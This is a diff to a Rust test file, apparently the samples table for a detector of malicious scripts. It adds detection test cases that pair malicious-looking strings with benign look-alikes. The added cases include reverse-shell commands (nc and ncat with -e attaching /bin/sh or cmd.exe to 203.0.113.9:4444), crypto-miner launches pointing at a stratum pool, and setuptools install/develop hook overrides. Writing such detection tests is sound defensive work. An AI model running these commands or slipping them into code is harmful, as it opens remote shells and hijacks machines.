@@ -218,6 +218,13 @@ fn samples() -> Vec<Sample> {
             "./worker -o stratum+tcp://pool.example.invalid:3333 -u wallet",
             "./worker --threads 4 --queue jobs",
         ),
+        // Each scheme, in any case.
+        text(
+            "crypto-miner",
+            "start.sh",
+            "exec ./worker -o STRATUM+SSL://pool.example.invalid:443",
+            "exec ./worker -o https://pool.example.invalid:443",
+        ),
         text(
             "reverse-shell",
             "x.sh",
@@ -231,6 +238,12 @@ fn samples() -> Vec<Sample> {
             "connect.sh",
             "nc -e /bin/sh 203.0.113.9 4444\nncat.exe 203.0.113.9 4444 -e cmd.exe",
             "function __fish_tool_needs_command\n\tset -l cmd (commandline -opc)\n\tset -e cmd[1]\nend\n# check the port: nc -z localhost 8080\n",
+        ),
+        text(
+            "reverse-shell",
+            "connect.bat",
+            "NCAT.EXE 203.0.113.9 4444 -e\tCMD.EXE",
+            "ncat.exe 203.0.113.9 4444 --exec-timeout 5 cmd.exe",
         ),
         // dup2 onto a standard stream with a connection in the file; alone, it is a daemon
         // (or a comment about one) pointing stdin at /dev/null.
@@ -331,6 +344,13 @@ fn samples() -> Vec<Sample> {
             "setup.py",
             "from setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\nsetup(cmdclass={'install': PostInstall})",
             "from setuptools import setup\nsetup(name='x', cmdclass={'build_docs': BuildDocs})",
+        ),
+        // The subclass alone: the command table is built elsewhere.
+        text(
+            "python-setup-command-override",
+            "setup.py",
+            "from setuptools.command.develop import develop\nclass Hook( develop ):\n    def run(self):\n        develop.run(self)\nsetup(cmdclass=COMMANDS)",
+            "from setuptools import Command\nclass Docs(Command):\n    pass\nsetup(cmdclass=COMMANDS)",
         ),
         // Rust analysers.
         Sample {
